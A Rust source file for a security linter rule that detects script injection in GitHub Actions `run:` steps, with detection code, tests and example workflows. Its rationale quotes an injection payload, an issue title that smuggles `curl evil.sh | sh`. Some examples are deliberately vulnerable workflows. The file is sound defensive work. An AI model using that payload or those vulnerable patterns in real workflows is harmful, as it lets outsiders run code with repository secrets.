//! `run:` scripts do not expand untrusted event data.

use rampart_model::{Resource, Severity};

use crate::ctx::Ctx;
use crate::rule::{Check, Example, Rule, RuleMeta};
use crate::util::{field, Field};

pub static RULE: Rule = Rule {
    meta: RuleMeta {
        id: "RMP-GHA-002",
        name: "github-actions-no-script-injection",
        title: "GitHub Actions run steps do not expand untrusted event data into the script",
        severity: Severity::High,
        kinds: &["github_actions_run"],
        frameworks: &[
            "soc2:CC8.1",
            "iso27001:A.8.28",
            "nist-csf:PR.PS-06",
            "pci-dss:6.2.4",
            "cis-controls:16.1",
            "nis2:21.2.e",
        ],
        policies: &["SIAC:2.3", "SIAC:5.1"],
        aliases: &["CKV_GHA_2"],
        description: "Checks every `run:` step of workflows and composite actions: a `${{ }}` \
            expression in the script must not read data an outsider controls, such as issue, \
            pull request, comment, review and discussion titles and bodies, commit messages and \
            author names, branch names (`github.head_ref`, `head.ref`, `head.label`) and wiki \
            page names.",
        rationale: "GitHub substitutes `${{ }}` into the script text before the shell runs it, so \
            an issue titled `\"; curl evil.sh | sh; \"` runs that command with the workflow's \
            token and secrets. On `pull_request_target` and `issue_comment` triggers anyone who \
            can open an issue or a fork can do this.",
        remediation: "Pass the value through an environment variable and quote it in the \
            script: `env: TITLE: ${{ github.event.issue.title }}` and `run: echo \"$TITLE\"`.",
        examples: &[
            Example::gha_fail(
                "on:\n  issues:\n    types: [opened]\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue ${{ github.event.issue.title }}\"\n",
            ),
            Example::gha_fail(
                "on: pull_request_target\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Check out the branch\n        run: |\n          git fetch origin\n          git checkout ${{ github.head_ref }}\n",
            ),
            Example::gha_pass(
                "on:\n  issues:\n    types: [opened]\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo \"New issue $TITLE (#${{ github.event.issue.number }}) in ${{ github.repository }}\"\n",
            ),
        ],
    },
    check,
};

/// Last path segments that hold text an outsider chooses.
const UNTRUSTED_FIELDS: &[&str] = &[
    "title",
    "body",
    "message",
    "label",
    "default_branch",
    "page_name",
    "head_branch",
];

/// Whether a context path (lower case) reads outsider-controlled data.
fn untrusted(path: &str) -> bool {
    if path == "github.head_ref" {
        return true;
    }
    let Some(event) = path.strip_prefix("github.event.") else {
        return false;
    };
    let last = event.rsplit('.').next().unwrap_or(event);
    let author = event.contains("author.") || event.contains("committer.");
    UNTRUSTED_FIELDS.contains(&last)
        || event.ends_with("head.ref")
        || (author && matches!(last, "name" | "email"))
}

/// The untrusted context paths read by the `${{ }}` expressions of `script`.
fn untrusted_reads(script: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = script;
    while let Some(start) = rest.find("${{") {
        let after = rest.get(start + 3..).unwrap_or("");
        let end = after.find("}}").unwrap_or(after.len());
        let expr = after.get(..end).unwrap_or("").to_ascii_lowercase();
        for token in
            expr.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '*' | '-')))
        {
            if untrusted(token) && !out.iter().any(|t| t == token) {
                out.push(token.to_string());
            }
        }
        rest = after.get(end..).unwrap_or("");
    }
    out
}

fn check(step: &Resource, _ctx: &Ctx) -> Vec<Check> {
    let check = match field(&step.body, "run") {
        Field::Known(v, a) => {
            let reads = untrusted_reads(v.as_str().unwrap_or(""));
            if reads.is_empty() {
                Check::pass(a.span, "the script expands no untrusted event data")
            } else {
                Check::fail(
                    a.span,
                    format!("the script expands `{}` directly", reads.join("`, `")),
                )
            }
        }
        Field::Unknown(a) => Check::unknown(a.span, "the script is not known"),
        Field::Missing => return Vec::new(),
    };
    vec![check.at("run")]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_outsider_controlled_contexts() {
        let s = "echo ${{ github.event.pull_request.head.ref }} ${{ github.event.commits[0].author.email }} ${{github.event.comment.body}}";
        assert_eq!(
            untrusted_reads(s),
            vec![
                "github.event.pull_request.head.ref",
                "github.event.comment.body",
            ]
        );
        assert!(untrusted("github.event.head_commit.author.email"));
        assert!(untrusted("github.event.pages.*.page_name"));
        for trusted in [
            "github.sha",
            "github.event.issue.number",
            "github.event.repository.name",
            "github.event.pull_request.head.sha",
            "secrets.token",
        ] {
            assert!(!untrusted(trusted), "{trusted}");
        }
        assert!(untrusted_reads("echo ${{ github.event.issue.title").len() == 1);
    }
}
